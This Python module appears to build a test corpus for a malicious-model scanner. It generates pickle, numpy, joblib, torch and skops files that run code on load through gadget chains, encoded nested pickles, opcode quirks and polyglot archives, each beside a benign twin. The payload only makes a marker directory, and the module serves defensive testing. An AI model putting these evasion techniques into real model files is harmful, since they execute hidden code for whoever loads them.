"""More live evasions: calls hidden in hooks, registries, keywords, codecs and loaders; each with a benign twin."""

import base64
import bz2
import codecs
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from evasions import CODE, MARK, MKDIR, NAME, args, call, name, pickle, raw_bytes, short, stack_name, text

# A function of a known library that acts with one argument: ordinary to refer to, never to call.
MAKE = name("joblib.disk", "mkdirp")
ORDERED = name("collections", "OrderedDict")


def pairs(**items):
    return b"}" + b"".join(text(key) + value + b"s" for key, value in items.items())


def hooks():
    """(name, evil, twin): a later opcode calls what an earlier one placed."""
    space = name("types", "SimpleNamespace")
    partial = name("functools", "partial")
    state = args(space, b")", pairs(append=MAKE), b"N")
    yield "partial-keyword-hook", call(partial, space) + state + b"b)R" + NAME + b"a", call(partial, space)
    bunch = name("sklearn.utils._bunch", "Bunch")
    yield "bunch-item-append", bunch + b")\x81" + text("append") + MAKE + b"s" + NAME + b"a", \
        bunch + b")\x81" + text("append") + text("x") + b"s"
    yield "bunch-items-append", bunch + b")\x81(" + text("a") + b"K\x01" + text("append") + MAKE + b"u" + NAME + b"a", \
        bunch + b")\x81(" + text("a") + b"K\x01" + text("func") + name("numpy", "log1p") + b"u"
    result = name("scipy.optimize._optimize", "OptimizeResult")
    yield "result-setstate", result + b")\x81" + text("__setstate__") + MAKE + b"s" + NAME + b"b", \
        result + b")\x81" + text("fun") + b"K\x01s"
    yield "namespace-append", space + b")R" + pairs(append=MAKE) + b"b(" + NAME + b"e", space + b")R" + pairs(append=text("x")) + b"b"
    yield "namespace-add", space + b")R" + pairs(add=MAKE) + b"b" + b"(" + NAME + b"\x90", space + b")R" + pairs(add=b"K\x01") + b"b"
    yield "slot-state-hook", space + b")R" + b"N" + pairs(__setstate__=MAKE) + b"\x86b" + NAME + b"b", \
        space + b")R" + b"N" + pairs(a=b"K\x01") + b"\x86b"
    yield "enum-functional", call(name("enum", "Enum"), text("X"), pairs(append=MAKE)) + NAME + b"a", name("enum", "Enum")
    yield "argparse-hook", call(partial, name("argparse", "Namespace")) + args(name("argparse", "Namespace"), b")",
                                                                               pairs(append=MAKE), b"N") + b"b)R" + NAME + b"a", \
        name("argparse", "Namespace") + b")R" + pairs(learning_rate=b"K\x01") + b"b"
    plain, bound = name("argparse", "Namespace"), call(partial, MAKE)
    kind = call(name("builtins", "type"), plain + b")\x81")
    yield "class-of-instance", kind + b"N" + pairs(__setstate__=bound) + b"\x86b0" + plain + b")\x81" + NAME + b"b", \
        call(name("builtins", "type"), b"N")
    yield "class-patch", plain + b"N" + pairs(__setstate__=bound) + b"\x86b)\x81" + NAME + b"b", \
        name("sklearn.svm._classes", "SVC") + b")\x81" + pairs(C=b"K\x01") + b"b"
    yield "module-patch", name("json", "decoder") + pairs(x=MKDIR) + b"b0" + name("json.decoder", "x") + args(NAME) + b"R", \
        name("json", "loads")
    yield "sys-modules-item", name("sys", "modules") + text("mantlet_x") + call(name("importlib", "import_module"), text("os")) + \
        b"s0" + name("mantlet_x", "mkdir") + args(NAME) + b"R", b"}" + text("mantlet_x") + text("os") + b"s"


def callers():
    """(name, evil, twin): an allowed function calls what it is given."""
    sequence = b"]" + NAME + b"a"
    partial = name("functools", "partial")
    listed = name("builtins", "list")
    keyed = call(partial, name("builtins", "sorted")) + args(name("builtins", "sorted"), b")", pairs(key=MAKE), b"N") + b"b"
    yield "sorted-key-state", keyed + args(sequence) + b"R", call(partial, name("builtins", "int"), b"K\x03")
    yield "max-key-newobj", partial + args(name("builtins", "max")) + pairs(key=MAKE) + b"\x92" + args(sequence) + b"R", \
        partial + args(name("builtins", "int")) + pairs(base=b"K\x02") + b"\x92"
    for function in ("groupby", "takewhile", "dropwhile", "filterfalse"):
        order = (sequence, MAKE) if function == "groupby" else (MAKE, sequence)
        yield f"itertools-{function}", call(listed, call(name("itertools", function), *order)), call(name("itertools", "count"), b"K\x01")
    yield "map-of-vectorize", call(listed, call(name("builtins", "map"), call(name("numpy", "vectorize"), MAKE), sequence)), \
        call(listed, call(name("builtins", "map"), name("builtins", "len"), sequence))
    yield "defaultdict-partial", call(name("operator", "getitem"), call(name("collections", "defaultdict"), call(partial, MAKE, NAME)), text("x")), \
        call(name("operator", "getitem"), b"}" + text("x") + b"K\x01s", text("x"))
    yield "iter-callable", call(listed, call(name("builtins", "iter"), call(partial, MAKE, NAME), b"N")), \
        call(listed, call(name("builtins", "iter"), sequence))
    yield "reduce-call", call(name("functools", "reduce"), name("operator", "call"), b"](" + MKDIR + NAME + b"e"), \
        call(name("functools", "reduce"), name("operator", "add"), b"](K\x01K\x02e")
    yield "dill-create-array", call(name("dill._dill", "_create_array"), MAKE, args(NAME), b"N", b"N"), \
        call(name("dill._dill", "_load_type"), text("set"))
    yield "reconstructor-base", call(name("copyreg", "_reconstructor"), name("zipfile", "ZipFile"), name("builtins", "object"), b"N") + \
        b"0" + call(MKDIR, NAME), call(name("copyreg", "_reconstructor"), name("sklearn.svm._classes", "SVC"), name("builtins", "object"), b"N")
    yield "method-type", call(call(name("types", "MethodType"), MAKE, NAME)), call(name("types", "MappingProxyType"), b"}")
    yield "lru-cache", call(call(name("functools", "cache"), MAKE), NAME), name("functools", "lru_cache")
    yield "nsmallest-key", call(name("heapq", "nsmallest"), b"K\x01", sequence, MAKE), name("heapq", "nsmallest")
    yield "copy-with", call(name("copyreg", "__newobj_ex__"), partial, args(MAKE, NAME), b"}") + b")R", \
        call(name("copyreg", "__newobj_ex__"), partial, args(name("builtins", "int")), b"}")
    yield "function-code", name("base64", "b64encode") + b"N" + b"}" + text("__code__") + call(
        name("builtins", "compile"), CODE, text("x"), text("exec")) + b"s\x86b" + b")R", name("base64", "b64encode")
    yield "forward-reference", call(stack_name("typing", "ForwardRef._evaluate"), call(
        name("typing", "ForwardRef"), text(f"__import__('os').mkdir('{MARK}')")), b"}", b"}", call(name("builtins", "frozenset"))), \
        name("typing", "Optional")
    yield "gettext-plural", call(name("gettext", "c2py"), text("n")) + b"0" + call(MAKE, NAME), name("gettext", "gettext")
    yield "dict-config", call(name("logging.config", "dictConfig"), pairs(version=b"K\x01", formatters=pairs(
        x=b"}" + text("()") + text("os.mkdir") + b"s" + text("path") + NAME + b"s"))), call(name("logging", "getLogger"), text("x"))
    yield "interpreter", call(stack_name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), CODE), \
        name("string", "Template")
    for module, function, items in (
            ("bdb", "Bdb.run", (call(name("bdb", "Bdb")), CODE)), ("profile", "run", (CODE,)),
            ("trace", "Trace.run", (call(name("trace", "Trace")), CODE)), 
            ("cProfile", "runctx", (CODE, b"}", b"}")), ("numpy.f2py.crackfortran", "myeval", (text(f"__import__('os').mkdir('{MARK}')"),)),
            ("numpy.f2py.crackfortran", "_eval_length", (text(f"__import__('os').mkdir('{MARK}')"), b"}")),
            ("lib2to3.pgen2.grammar", "Grammar.load", (call(name("lib2to3.pgen2.grammar", "Grammar")), text("/dev/null"))),
            ("ctypes", "CDLL", (text("libc.so.6"),)), ("pty", "spawn", (b"]" + text("mkdir") + b"a" + NAME + b"a",)),
            ("shutil", "copytree", (text("/proc/self/fdinfo"), NAME)), ("tempfile", "mkdtemp", (b"N", NAME, text("."))),
            ("os", "makedirs", (NAME,)), ("pathlib", "Path.mkdir", (call(name("pathlib", "PosixPath"), NAME),)),
            ("subprocess", "getoutput", (text(f"mkdir {MARK}"),)), ("asyncio.subprocess", "create_subprocess_shell", (text("x"),)),
            ("webbrowser", "open", (text("x"),)), ("importlib.util", "spec_from_file_location", (text("x"), text("y")))):
        target = call(stack_name(module, function), *items)
        act = module not in ("lib2to3.pgen2.grammar", "ctypes", "asyncio.subprocess", "webbrowser", "importlib.util")
        yield f"gadget-{module}-{function}".replace(".", "-").lower(), target if act else call(MAKE, NAME) + b"0" + target, \
            stack_name("sklearn.svm._classes", "SVC") + b")\x81"


def encodings():
    """(name, evil, twin): names and payloads that are computed, and opcodes that readers read differently."""
    direct = pickle(call(MKDIR, NAME))
    decode = name("codecs", "decode")

    def computed(codec, raw):
        return call(call(decode, raw_bytes(raw), text(codec)) + short("mkdir") + b"\x93", NAME)

    plain = call(decode, raw_bytes(b"weights"), text("utf-8"))
    yield "unicode-escape", computed("unicode_escape", b"\\x6f\\u0073"), plain
    yield "raw-unicode-escape", computed("raw_unicode_escape", b"\\u006f\\u0073"), plain
    yield "utf-16", computed("utf-16-le", "os".encode("utf-16-le")), plain
    yield "utf-7", computed("utf-7", b"+AG8-s"), plain
    yield "punycode", computed("punycode", "os".encode("punycode")), plain
    for codec in ("zlib", "bz2", "hex", "base64", "quopri", "uu"):
        encoded = codecs.encode(direct, codec)
        yield f"loads-{codec}", call(name("pickle", "loads"), call(decode, raw_bytes(encoded), text(codec))), plain
    yield "loads-base85", call(name("pickle", "loads"), call(name("base64", "b85decode"), raw_bytes(base64.b85encode(direct)))), plain
    yield "loads-lzma", call(name("pickle", "loads"), call(name("lzma", "decompress"), raw_bytes(lzma.compress(direct)))), plain
    yield "loads-bytearray", call(name("pickle", "loads"), b"\x96" + struct.pack("<Q", len(direct)) + direct), raw_bytes(direct)
    yield "unpickler-load", call(stack_name("pickle", "Unpickler.load"), call(name("pickle", "Unpickler"), call(
        name("io", "BytesIO"), raw_bytes(direct)))), call(name("io", "BytesIO"), raw_bytes(b"abc"))
    yield "numpy-load", call(name("numpy", "load"), call(name("io", "BytesIO"), raw_bytes(direct)), b"N", b"\x88"), plain
    yield "joblib-load", call(name("joblib", "load"), call(name("io", "BytesIO"), raw_bytes(pickle(call(MKDIR, NAME), 2)))), plain
    yield "pandas-read-pickle", call(name("pandas", "read_pickle"), call(name("io", "BytesIO"), raw_bytes(direct)), b"N"), plain
    yield "number-hex", b"I0x10\n0" + call(MKDIR, NAME), b"I16\n"
    yield "number-octal", b"I010\n0" + call(MKDIR, NAME), b"I8\n"
    yield "number-underscore", b"L1_0L\n0" + call(MKDIR, NAME), b"L10L\n"
    yield "number-binary", b"L0b1L\n0" + call(MKDIR, NAME), b"L1L\n"
    yield "frame-nested", b"\x95" + struct.pack("<Q", 30) + b"\x95" + struct.pack("<Q", 4) + b"N0N0" + call(MKDIR, NAME), b"N"
    yield "memo-shadow", text("posixpath") + b"p0\n0" + text("os") + b"\x94" + b"0" + text("os") + b"r\x00\x00\x00\x000" + \
        b"g0\n" + short("mkdir") + b"\x93" + args(NAME) + b"R", text("a") + b"p0\n0g0\n"
    yield "extension-2", call(name("copyreg", "add_extension"), text("os"), text("mkdir"), b"M\x01\x02") + b"0\x83\x01\x02" + \
        args(NAME) + b"R", b"N"
    yield "extension-4", call(name("copyreg", "add_extension"), text("os"), text("mkdir"), b"J\x01\x02\x03\x00") + \
        b"0\x84\x01\x02\x03\x00" + args(NAME) + b"R", b"N"
    yield "old-string-names", b"U\x02osU\x05mkdir\x93" + args(NAME) + b"R", b"U\x02os"
    yield "builtins-get", call(call(stack_name("builtins", "dict.get"), call(name("builtins", "vars"), call(
        name("importlib", "import_module"), text("builtins"))), text("exec")), CODE), \
        call(stack_name("builtins", "dict.get"), b"}" + text("a") + b"K\x01s", text("a"))
    yield "getattr-default", call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("mkdir"),
                                       b"N"), NAME), call(name("builtins", "getattr"), ORDERED, text("fromkeys"))
    yield "itemgetter-modules", call(call(name("builtins", "getattr"), call(call(name("operator", "itemgetter"), text("os")),
                                     name("sys", "modules")), text("mkdir")), NAME), call(name("operator", "itemgetter"), b"K\x01")
    yield "format-name", call(call(stack_name("builtins", "str.format"), text("{}s"), text("o")) + short("mkdir") + b"\x93", NAME), \
        call(stack_name("builtins", "str.format"), text("{}s"), text("o"))
    yield "slice-name", call(call(name("operator", "getitem"), text("sos"), call(name("builtins", "slice"), b"K\x01", b"N")) +
                             short("mkdir") + b"\x93", NAME), call(name("builtins", "slice"), b"K\x01", b"N")
    yield "chr-name", call(call(stack_name("builtins", "str.join"), text(""), b"](" + call(name("builtins", "chr"), b"Ko") + call(
        name("builtins", "chr"), b"Ks") + b"e") + short("mkdir") + b"\x93", NAME), call(name("builtins", "chr"), b"Ko")


def tricks():
    """(name, bytes, loader, twin)"""
    for family, protocol in ((hooks, 4), (callers, 4), (encodings, 4)):
        for label, evil, twin in family():
            yield f"{family.__name__}-{label}.pkl", pickle(evil, protocol), "pickle", pickle(twin, protocol)
    # The first pickle registers, the second uses.
    first = pickle(call(name("copyreg", "add_extension"), text("os"), text("mkdir"), b"K\x22"), 2)
    yield "stack-extension.pkl", first + pickle(b"\x82\x22" + args(NAME) + b"R", 2), "pickle-twice", pickle(b"N", 2) * 2
    yield from files()


def files():
    import joblib
    import numpy as np

    direct, calm = pickle(call(MKDIR, NAME)), pickle(call(ORDERED))

    def npy(descr, data, version=1):
        header = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr).encode()
        header += b" " * (-(len(header) + 11) % 64) + b"\n"
        size = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
        return b"\x93NUMPY" + bytes([version, 0]) + size + header + data

    whole = np.zeros(1, [("a", "<f4"), ("b", "<i4")])
    buffer = io.BytesIO()
    np.save(buffer, whole)
    for label, descr, version in (("field", "[('a', '<f4'), ('b', 'O')]", 1), ("escaped", r"[('a', '\x7c\117')]", 1),
                                  ("joined", "'|' 'O'", 2), ("nested", "[('a', [('b', '|O')])]", 3), ("named", "'object'", 1)):
        yield f"npy-{label}.npy", npy(descr, direct, version), "numpy", buffer.getvalue()
    for label, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress),
                        ("lzma", lambda raw: lzma.compress(raw, format=lzma.FORMAT_ALONE))):
        yield f"joblib-{label}.joblib", pack(pickle(call(MKDIR, NAME), 3)), "joblib", pack(pickle(call(ORDERED), 3))

    def zipped(*members):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for member, raw in members:
                archive.writestr(member, raw)
        return buffer.getvalue()

    def tarred(*members):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for member, raw in members:
                info = tarfile.TarInfo(member)
                info.size = len(raw)
                archive.addfile(info, io.BytesIO(raw))
        return buffer.getvalue()

    body = zipped(("m/data.pkl", calm), ("m/version", "3\n"))
    yield "polyglot-head.pt", b"\x80\x04N0" + call(MKDIR, NAME) + b"." + body, "pickle", body
    yield "polyglot-old-head.pt", b"N0" + call(MKDIR, NAME) + b"." + body, "pickle", body
    yield "twice-data.pt", zipped(("m/data.pkl", calm), ("m/data.pkl", direct)), None, body
    yield "second-root.pt", zipped(("m/data.pkl", calm), ("n/data.pkl", direct)), None, body
    yield "constants.pt", zipped(("m/data.pkl", calm), ("m/constants.pkl", direct)), None, zipped(("m/data.pkl", calm), ("m/constants.pkl", calm))
    script = "class Net(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return %s\n"
    for label, code in (("from-file", 'torch.from_file("x", True, 3)'), ("python", "^Run()(x)"), ("write", "ops.image.write_file(x, y)")):
        yield f"script-{label}.pt", zipped(("m/data.pkl", calm), ("m/code/__torch__.py", script % code)), None, \
            zipped(("m/data.pkl", calm), ("m/code/__torch__.py", script % "torch.relu(x)"))
    node = '{"__class__": "%s", "__module__": "%s", "__loader__": "%s", "content": {}, "protocol": 2}'
    for label, kind in (("function", ("system", "os", "FunctionNode")), ("operator", ("call", "builtins", "OperatorFuncNode")),
                        ("unknown", ("Net", "mine", "ObjectNode"))):
        yield f"skops-{label}.skops", zipped(("schema.json", node % kind)), None, \
            zipped(("schema.json", node % ("SVC", "sklearn.svm._classes", "ObjectNode")))
    numbers = pickle(b"K\x00", 2)
    yield "torch-tar.pth", tarred(("sys_info", numbers), ("pickle", direct), ("tensors", numbers), ("storages", numbers)), None, \
        tarred(("sys_info", numbers), ("pickle", calm), ("tensors", numbers), ("storages", numbers))
    storages = pickle(b"K\x01", 2) + pickle(args(text("1"), text("cpu"), name("torch", "FloatStorage")), 2) + struct.pack("<Qf", 1, 1.0)
    yield "torch-tar-storage.pth", tarred(("pickle", calm), ("tensors", numbers), ("storages", pickle(b"K\x01", 2) + direct)), None, \
        tarred(("pickle", calm), ("tensors", numbers), ("storages", storages))
    yield "served.mar", zipped(("MAR-INF/MANIFEST.json", '{"model": {"handler": "image_classifier", "serializedFile": "m.pt"}}'),
                               ("m.pt", zipped(("m/data.pkl", direct)))), None, \
        zipped(("MAR-INF/MANIFEST.json", '{"model": {"handler": "image_classifier", "serializedFile": "m.pt"}}'), ("m.pt", body))
    yield "deep.zip", zipped(("a.tar", tarred(("b.pkl", direct)))), None, zipped(("a.tar", tarred(("b.pkl", calm))))
    yield "deep-zips.zip", zipped(("a.zip", zipped(("b.pt", zipped(("m/data.pkl", direct)))))), None, zipped(("a.zip", zipped(("b.pt", body))))
    yield "deep.tar.gz", gzip.compress(tarred(("b.pkl", direct))), None, gzip.compress(tarred(("b.pkl", calm)))
    buffer = io.BytesIO()
    joblib.dump([np.arange(40.0)], buffer)
    yield "joblib-stacked.joblib", buffer.getvalue() + direct, "joblib-twice", buffer.getvalue()
